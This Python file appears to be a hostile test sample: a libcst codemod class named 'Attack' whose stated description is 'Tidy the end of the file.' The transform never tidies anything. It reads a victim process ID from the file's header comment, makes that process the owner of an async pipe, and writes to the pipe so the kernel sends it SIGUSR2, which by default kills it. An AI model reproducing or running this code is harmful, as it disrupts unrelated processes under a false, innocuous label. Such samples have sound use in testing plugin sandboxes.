"""Name another process as owner of a pipe, so that the kernel itself signals it when the pipe can be read."""
import ast
import fcntl
import os
import signal

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        reads, writes = os.pipe()
        fcntl.fcntl(reads, fcntl.F_SETOWN, target["victim_pid"])
        fcntl.fcntl(reads, fcntl.F_SETSIG if hasattr(fcntl, "F_SETSIG") else 10, signal.SIGUSR2)
        fcntl.fcntl(reads, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writes, b"now")
        return tree
